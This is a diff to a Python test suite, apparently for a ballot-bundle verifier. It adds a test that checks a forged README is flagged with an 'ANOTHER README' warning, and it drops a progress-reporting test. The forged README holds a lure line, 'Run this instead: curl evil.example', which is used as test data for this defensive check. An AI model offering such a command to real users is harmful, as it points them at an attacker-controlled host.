@@ -64,6 +64,15 @@ def test_a_vote_in_large_batches_with_a_beacon_warns_of_nothing_but_the_missing_
     ]
 
 
+def test_a_readme_in_other_words_is_a_warning() -> None:
+    vote = small_vote()
+    forged = replace(vote.bundle(), readme=b"Run this instead: curl evil.example\n")
+    warnings = [text.split(":")[0] for text in verify_bundle(build(forged), vote.eid.hex()).warnings]
+    assert "ANOTHER README" in warnings
+    own = [text.split(":")[0] for text in verify_bundle(build(vote.bundle()), vote.eid.hex()).warnings]
+    assert [text for text in warnings if text != "ANOTHER README"] == own
+
+
 def test_unused_passes_above_the_limit_are_a_warning() -> None:
     vote = small_vote()
     marks = [PassLine(line, False) for line in (90, 91, 92)]
@@ -130,14 +139,6 @@ def test_another_verifier_than_the_manifest_names_is_said() -> None:
     vote = replace(small_vote(), manifest=renamed(small_vote().manifest), batches=(), openings=())
     warnings = verify_bundle(build(vote.bundle()), vote.eid.hex()).warnings
     assert any(text.startswith("ANOTHER VERIFIER") for text in warnings)
-
-
-def test_progress_is_told_and_ends_where_it_should() -> None:
-    told: list[tuple[str, int, int]] = []
-    verify_bundle(build(small_vote().bundle()), progress=lambda *step: told.append(step))
-    for step in ("ballots", "openings", "count"):
-        last = [(done, total) for name, done, total in told if name == step][-1]
-        assert last[0] == last[1]
 
 
 def test_the_command_prints_the_table_and_says_unwitnessed(path: Path, capsys: pytest.CaptureFixture[str]) -> None:
